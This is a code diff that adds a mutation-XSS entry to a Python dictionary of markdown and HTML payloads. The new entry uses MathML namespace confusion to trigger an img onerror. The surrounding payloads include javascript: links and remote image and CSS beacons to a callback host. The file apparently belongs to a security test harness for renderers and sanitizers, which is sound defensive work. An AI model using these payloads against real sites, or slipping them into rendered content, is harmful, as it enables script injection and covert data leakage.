@@ -44,6 +44,10 @@ def markdown_payloads(base: str) -> dict[str, str]:
             f'<mi href="javascript:{js("md_mathml_href")}">x</mi>'
             f'<mtext><a href="javascript:{js("md_mathml_a")}">link</a></mtext></math>'
         ),
+        "md_mxss": (  # namespace confusion: HTML inside MathML inside HTML
+            f'<math><mtext><table><mglyph><style><img src=x onerror="{js("md_mxss")}">'
+            "</style></mglyph></table></mtext></math>"
+        ),
         "md_remote_img": f'<img src="{hit}/md_remote_img"> ![t]({hit}/md_remote_md_img)',
         "md_css_url": (
             f'<div style="background-image:url({hit}/md_css_url)">styled</div>'
